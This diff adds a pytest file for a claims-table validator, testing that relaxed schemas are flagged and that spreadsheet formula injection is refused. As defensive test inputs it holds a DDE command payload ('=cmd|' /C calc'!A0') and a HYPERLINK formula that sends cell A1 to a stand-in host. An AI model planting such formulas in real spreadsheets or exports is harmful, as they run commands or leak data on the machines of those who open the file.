@@ -1,0 +1,131 @@
+"""Hostile pull requests, schemas: the contract's protections do not depend on the schema that
+comes with the rows. A relaxed constraint is a schema-error, and the formula rule covers every
+text cell, columns the schema adds included."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import MakeRoot
+from roots import CLAIMS, locations, read_rows, set_cell, write_rows
+
+from validate.reading.table_schema import TableSchema
+from validate.rules.check import check
+from validate.rules.contract import CONTRACT, relaxations
+
+SCHEMA = "schema/claims.schema.json"
+
+
+def _edit_schema(root: Path, change: Callable[[dict[str, Any]], None]) -> None:
+    path = root / SCHEMA
+    schema = json.loads(path.read_text(encoding="utf-8"))
+    change(schema)
+    path.write_text(json.dumps(schema), encoding="utf-8")
+
+
+def _field(schema: dict[str, Any], name: str) -> dict[str, Any]:
+    field: dict[str, Any] = next(f for f in schema["fields"] if f["name"] == name)
+    return field
+
+
+def _loosen_pattern(schema: dict[str, Any]) -> None:
+    _field(schema, "claim_id")["constraints"]["pattern"] = ".*"
+
+
+def _drop_required(schema: dict[str, Any]) -> None:
+    del _field(schema, "quote")["constraints"]["required"]
+
+
+def _value_as_string(schema: dict[str, Any]) -> None:
+    _field(schema, "value")["type"] = "string"
+
+
+def _widen_enum(schema: dict[str, Any]) -> None:
+    _field(schema, "qualifier")["constraints"]["enum"].append("whatever")
+
+
+def _lengthen_quote(schema: dict[str, Any]) -> None:
+    _field(schema, "quote")["constraints"]["maxLength"] = 10**9
+
+
+def _hide_formulas(schema: dict[str, Any]) -> None:
+    schema["missingValues"] = ["", "=cmd|' /C calc'!A0"]
+
+
+def _drop_primary_key(schema: dict[str, Any]) -> None:
+    del schema["primaryKey"]
+
+
+@pytest.mark.parametrize(
+    ("change", "column"),
+    [
+        (_loosen_pattern, "claim_id"),
+        (_drop_required, "quote"),
+        (_value_as_string, "value"),
+        (_widen_enum, "qualifier"),
+        (_lengthen_quote, "quote"),
+        (_hide_formulas, None),
+        (_drop_primary_key, None),
+    ],
+)
+def test_a_schema_that_relaxes_the_contract_is_a_schema_error(
+    make_root: MakeRoot, change: Callable[[dict[str, Any]], None], column: str | None
+) -> None:
+    root = make_root()
+    _edit_schema(root, change)
+    assert (SCHEMA, None, column, "schema-error") in locations(check(root))
+
+
+def test_a_relaxed_id_pattern_still_lets_no_formula_through(make_root: MakeRoot) -> None:
+    root = make_root()
+    _edit_schema(root, _loosen_pattern)
+    set_cell(root, CLAIMS, 2, "claim_id", '=HYPERLINK("http://x.example/?"&A1)')
+    found = locations(check(root))
+    assert (SCHEMA, None, "claim_id", "schema-error") in found
+    assert (CLAIMS, 2, "claim_id", "formula-injection") in found
+
+
+def test_a_tightened_schema_is_no_schema_error(make_root: MakeRoot) -> None:
+    root = make_root()
+    _edit_schema(root, lambda s: _field(s, "note")["constraints"].update(maxLength=100))
+    assert [f for f in check(root) if f.check == "schema-error"] == []
+
+
+def test_a_column_the_schema_adds_is_checked_for_formulas(make_root: MakeRoot) -> None:
+    root = make_root()
+    _edit_schema(root, lambda s: s["fields"].append({"name": "comment", "type": "string"}))
+    rows = read_rows(root / CLAIMS)
+    rows[0].append("comment")
+    for row in rows[1:]:
+        row.append("")
+    rows[1][-1] = "@SUM(1+1)*cmd"
+    write_rows(root / CLAIMS, rows)
+    assert locations(check(root)) == [(CLAIMS, 2, "comment", "formula-injection")]
+
+
+@pytest.mark.parametrize("start", ["\t", "\r", "=", "+", "-", "@"])
+def test_a_value_text_that_begins_like_a_formula_is_refused(make_root: MakeRoot, start: str) -> None:
+    root = make_root()
+    rows = read_rows(root / CLAIMS)
+    value_text = rows[1][rows[0].index("value_text")]
+    set_cell(root, CLAIMS, 2, "value_text", start + value_text)
+    assert (CLAIMS, 2, "value_text", "formula-injection") in locations(check(root))
+
+
+def test_the_contract_declares_the_v2_tables_too() -> None:
+    loose = TableSchema.model_validate(
+        {
+            "fields": [
+                {"name": "relation_id", "type": "string"},
+                {"name": "relation", "type": "string", "constraints": {"required": True}},
+            ],
+            "primaryKey": ["relation_id"],
+        }
+    )
+    problems = relaxations("relations", loose)
+    assert [c for c, _ in problems] == ["relation_id", "relation_id", "relation"]
+    assert {"occurrence", "reason"} <= set(CONTRACT["exclusions"])
